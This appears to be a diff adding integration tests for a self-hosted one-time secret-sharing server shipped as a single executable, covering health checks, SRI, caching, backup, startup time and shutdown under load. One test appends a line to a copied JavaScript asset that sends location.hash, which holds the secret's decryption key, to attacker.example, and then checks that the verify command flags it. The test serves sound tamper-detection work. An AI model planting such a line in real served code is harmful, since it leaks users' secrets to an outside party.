@@ -1,0 +1,310 @@
+/** @module The single executable as a self-hoster runs it: one file in an empty directory, `env -i`, no Node, no node_modules, no HOME. */
+import crypto from 'node:crypto'
+import fs from 'node:fs'
+import { createRequire } from 'node:module'
+import path from 'node:path'
+import BetterSqlite3 from 'better-sqlite3'
+import { createShare, prepareOpen } from '@secretsentry/envelope'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import {
+  emptyDirWithBinary,
+  ensureBinary,
+  killAll,
+  ROOT,
+  runCommand,
+  serve,
+  until200,
+  type Served,
+} from './binary.ts'
+
+const WEB_DIST = path.join(ROOT, 'apps/web/dist')
+/** No rate limit: the load test below sends hundreds of creates from one address. */
+const SERVE_FLAGS = ['--data-dir', 'data', '--rate-limit-per-min', '0', '--log-level', 'warn']
+
+interface Created {
+  id: string
+  fragment: string
+  text: string
+}
+
+async function createTextShare(origin: string, text: string): Promise<Created> {
+  const { fragment, request } = await createShare(
+    { kind: 'text', text },
+    { ttlSeconds: 3600, maxViews: 1 },
+  )
+  const res = await fetch(`${origin}/api/share`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify(request),
+  })
+  if (res.status !== 201) throw new Error(`create: ${res.status} ${await res.text()}`)
+  const body = (await res.json()) as { id: string }
+  return { id: body.id, fragment, text }
+}
+
+/** Opens (and so burns) a share; the decrypted text, or the HTTP status when it did not open. */
+async function openText(origin: string, fragment: string): Promise<string | number> {
+  const prepared = await prepareOpen(fragment)
+  const res = await fetch(`${origin}/api/share/${prepared.id}/open`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ access: prepared.access }),
+  })
+  if (res.status !== 200) {
+    await res.arrayBuffer()
+    return res.status
+  }
+  const record = await prepared.decrypt(await res.json())
+  return record.kind === 'text' ? record.text : 'not text'
+}
+
+/** Does `bytes` match one `sha256-/sha384-/sha512-<base64>` token of an integrity attribute? */
+function integrityMatches(integrity: string, bytes: Buffer): boolean {
+  return integrity.split(/\s+/).some((token) => {
+    const [alg, digest] = token.split('-', 2) as [string, string]
+    return crypto.createHash(alg).update(bytes).digest('base64') === digest
+  })
+}
+
+let buildMs = 0
+let home: ReturnType<typeof emptyDirWithBinary>
+let server: Served
+const cleanups: (() => void)[] = []
+
+beforeAll(async () => {
+  buildMs = ensureBinary()
+  if (buildMs > 0) console.log(`built dist/secretsentry in ${(buildMs / 1000).toFixed(1)} s`)
+  home = emptyDirWithBinary()
+  cleanups.push(home.cleanup)
+  server = await serve(home.binary, home.dir, SERVE_FLAGS)
+  await until200(`${server.url}/readyz`)
+})
+
+afterAll(async () => {
+  await server?.stop()
+  killAll()
+  for (const cleanup of cleanups) cleanup()
+})
+
+describe('single executable, from an empty directory under env -i', () => {
+  it('the directory held only the executable, and it answers /healthz and /readyz', async () => {
+    expect(fs.readdirSync(home.dir).sort()).toEqual(['data', 'secretsentry'])
+    const health = await fetch(`${server.url}/healthz`)
+    expect(health.status).toBe(200)
+    expect(await health.json()).toEqual({ status: 'ok' })
+    const ready = await fetch(`${server.url}/readyz`)
+    expect(ready.status).toBe(200)
+  })
+
+  it('prints its version and help without a server', async () => {
+    const version = await runCommand(home.binary, ['--version'], home.dir)
+    expect(version.status).toBe(0)
+    expect(version.stdout).toMatch(/^secretsentry \d+\.\d+\.\d+/)
+    const help = await runCommand(home.binary, ['--help'], home.dir)
+    expect(help.stdout).toContain('serve')
+  })
+
+  it('caches the embedded better-sqlite3 addon once, inside DATA_DIR (no HOME), named by its verified hash', () => {
+    const cache = path.join(home.dir, 'data', '.cache')
+    expect(fs.statSync(cache).mode & 0o777).toBe(0o700)
+    const [file, ...others] = fs.readdirSync(cache)
+    expect(others).toEqual([])
+    const hash = /^better_sqlite3-([0-9a-f]{64})\.node$/.exec(file ?? '')?.[1]
+    const bytes = fs.readFileSync(path.join(cache, file as string))
+    expect(crypto.createHash('sha256').update(bytes).digest('hex')).toBe(hash)
+    // The very addon this checkout built, carried inside the executable.
+    const built = createRequire(import.meta.url).resolve(
+      'better-sqlite3/build/Release/better_sqlite3.node',
+    )
+    expect(bytes.equals(fs.readFileSync(built))).toBe(true)
+  })
+
+  it('creates a share and opens it once over HTTP', async () => {
+    const share = await createTextShare(server.url, 'from the single executable')
+    expect(await openText(server.url, share.fragment)).toBe('from the single executable')
+    expect(await openText(server.url, share.fragment)).toBe(404)
+  })
+
+  it('serves the embedded web app: the built files, with SRI that matches what is served', async () => {
+    for (const [page, file] of [
+      ['/', 'index.html'],
+      ['/s', 's/index.html'],
+    ] as const) {
+      const res = await fetch(`${server.url}${page}`)
+      const html = Buffer.from(await res.arrayBuffer())
+      expect(html.equals(fs.readFileSync(path.join(WEB_DIST, file)))).toBe(true)
+      const tags = [...html.toString().matchAll(/<(?:script|link)\b[^>]*>/g)].map((m) => m[0])
+      const subresources = tags.filter((t) => /\ssrc=|\srel="(?:stylesheet|modulepreload)"/.test(t))
+      expect(subresources.length).toBeGreaterThan(0)
+      for (const tag of subresources) {
+        const url = /\s(?:src|href)="([^"]+)"/.exec(tag)?.[1] as string
+        const integrity = /\sintegrity="([^"]+)"/.exec(tag)?.[1]
+        expect(integrity, `${page}: ${tag}`).toBeDefined()
+        const asset = Buffer.from(await (await fetch(new URL(url, server.url))).arrayBuffer())
+        expect(integrityMatches(integrity as string, asset), `${page}: ${url}`).toBe(true)
+      }
+    }
+  })
+
+  it('caches hashed assets immutably and pages not at all, with correct content types', async () => {
+    const assets = fs.readdirSync(path.join(WEB_DIST, 'assets'))
+    const js = assets.find((name) => name.endsWith('.js')) as string
+    const css = assets.find((name) => name.endsWith('.css')) as string
+    const jsRes = await fetch(`${server.url}/assets/${js}`)
+    expect(jsRes.headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
+    expect(jsRes.headers.get('content-type')).toBe('text/javascript; charset=utf-8')
+    // fetch asked for br/gzip: the compressed copy made from memory decodes to the built file.
+    expect(jsRes.headers.get('content-encoding')).toMatch(/^(br|gzip)$/)
+    expect(
+      Buffer.from(await jsRes.arrayBuffer()).equals(
+        fs.readFileSync(path.join(WEB_DIST, 'assets', js)),
+      ),
+    ).toBe(true)
+    const cssRes = await fetch(`${server.url}/assets/${css}`)
+    expect(cssRes.headers.get('content-type')).toBe('text/css; charset=utf-8')
+    expect(cssRes.headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
+    for (const page of ['/', '/s', '/links']) {
+      const res = await fetch(`${server.url}${page}`)
+      expect(res.headers.get('cache-control'), page).toBe('no-store')
+      expect(res.headers.get('content-type'), page).toBe('text/html; charset=utf-8')
+    }
+    expect((await fetch(`${server.url}/assets/not-there.js`)).status).toBe(404)
+  })
+
+  it('backup copies the live database; the copy opens and holds the share', async () => {
+    const share = await createTextShare(server.url, 'backed up')
+    const target = path.join(home.dir, 'backup.db')
+    const run = await runCommand(home.binary, ['backup', target, '--data-dir', 'data'], home.dir)
+    expect(run.stderr).toBe('')
+    expect(run.status).toBe(0)
+    expect(run.stdout).toContain('Backed up')
+    const copy = new BetterSqlite3(target, { readonly: true, fileMustExist: true })
+    try {
+      expect(copy.pragma('integrity_check', { simple: true })).toBe('ok')
+      const row = copy
+        .prepare('select count(*) as n from shares where id = ?')
+        .get(Buffer.from(share.id, 'base64url')) as { n: number }
+      expect(row.n).toBe(1)
+    } finally {
+      copy.close()
+    }
+  })
+
+  it('verify passes against it and fails against an instance serving a tampered copy', async () => {
+    const good = await runCommand(home.binary, ['verify', server.url], home.dir)
+    expect(good.stdout + good.stderr).not.toMatch(/MISMATCH/)
+    expect(good.status).toBe(0)
+
+    const tampered = path.join(home.dir, 'tampered-web')
+    fs.cpSync(WEB_DIST, tampered, { recursive: true })
+    const js = fs.readdirSync(path.join(tampered, 'assets')).find((n) => n.startsWith('shared'))
+    const victim = path.join(tampered, 'assets', js ?? 'missing.js')
+    fs.appendFileSync(victim, '\n;fetch("https://attacker.example/"+location.hash)\n')
+    const evil = await serve(home.binary, home.dir, [
+      '--data-dir',
+      'data-evil',
+      '--static-dir',
+      tampered,
+    ])
+    try {
+      const bad = await runCommand(home.binary, ['verify', evil.url], home.dir)
+      expect(bad.status).toBe(1)
+      expect(bad.stdout + bad.stderr).toContain(path.basename(victim))
+    } finally {
+      expect(await evil.stop()).toBe(0)
+    }
+  })
+
+  it('ignores NODE_OPTIONS: neither --require nor heap or title flags take effect', async () => {
+    const preload = await runCommand(home.binary, ['--version'], home.dir, {
+      NODE_OPTIONS: '--require=/nonexistent/preload.js',
+    })
+    expect(preload.stderr).toBe('')
+    expect(preload.status).toBe(0)
+
+    const marker = `ss-honoured-node-options-${process.pid}`
+    const flagged = await serve(home.binary, home.dir, ['--data-dir', 'data-flags'], {
+      NODE_OPTIONS: `--require=/nonexistent/preload.js --max-old-space-size=1 --title=${marker}`,
+    })
+    try {
+      // --title rewrites the process's command line; honoured, it would show there.
+      const cmdline = fs.readFileSync(`/proc/${flagged.child.pid}/cmdline`, 'utf8')
+      expect(cmdline).not.toContain(marker)
+      expect(cmdline).toContain('serve')
+      await until200(`${flagged.url}/readyz`)
+      // A 1 MB old space could not hold the app's heap; real work proves the flag was not applied.
+      const share = await createTextShare(flagged.url, 'x'.repeat(100_000))
+      expect(await openText(flagged.url, share.fragment)).toBe('x'.repeat(100_000))
+    } finally {
+      expect(await flagged.stop()).toBe(0)
+    }
+  })
+
+  it('starts to its first /healthz answer quickly (median of 10 spawns)', async () => {
+    const times: number[] = []
+    for (let i = 0; i < 10; i++) {
+      const began = performance.now()
+      const s = await serve(home.binary, home.dir, [
+        '--data-dir',
+        'data-start',
+        '--log-level',
+        'silent',
+      ])
+      const res = await fetch(`${s.url}/healthz`)
+      await res.arrayBuffer()
+      times.push(performance.now() - began)
+      expect(res.status).toBe(200)
+      expect(await s.stop()).toBe(0)
+    }
+    times.sort((a, b) => a - b)
+    const median = (times[4]! + times[5]!) / 2
+    console.log(
+      `spawn → first 200 on /healthz: median ${median.toFixed(0)} ms, min ${times[0]!.toFixed(0)} ms, max ${times[9]!.toFixed(0)} ms`,
+    )
+    // The budget is 100 ms on a quiet machine (README); a loaded CI box gets headroom, a
+    // regression (lost code cache, a slow import at start) does not.
+    expect(median).toBeLessThan(400)
+  })
+
+  it('SIGTERM under load loses no acknowledged share', async () => {
+    const first = await serve(home.binary, home.dir, [
+      ...SERVE_FLAGS.slice(2),
+      '--data-dir',
+      'data-load',
+    ])
+    await until200(`${first.url}/readyz`)
+    const acknowledged: Created[] = []
+    let stopping: Promise<number | string> | undefined
+    let sent = 0
+    const worker = async () => {
+      for (;;) {
+        const text = `load ${sent++}`
+        try {
+          acknowledged.push(await createTextShare(first.url, text))
+        } catch {
+          return // refused or cut after SIGTERM: never acknowledged
+        }
+        if (acknowledged.length === 150) stopping = first.stop('SIGTERM')
+      }
+    }
+    await Promise.all(Array.from({ length: 32 }, worker))
+    expect(await stopping).toBe(0)
+    expect(acknowledged.length).toBeGreaterThanOrEqual(150)
+
+    const second = await serve(home.binary, home.dir, [
+      ...SERVE_FLAGS.slice(2),
+      '--data-dir',
+      'data-load',
+    ])
+    try {
+      await until200(`${second.url}/readyz`)
+      const lost: string[] = []
+      for (const share of acknowledged) {
+        if ((await openText(second.url, share.fragment)) !== share.text) lost.push(share.id)
+      }
+      expect(lost).toEqual([])
+    } finally {
+      expect(await second.stop()).toBe(0)
+    }
+  })
+})
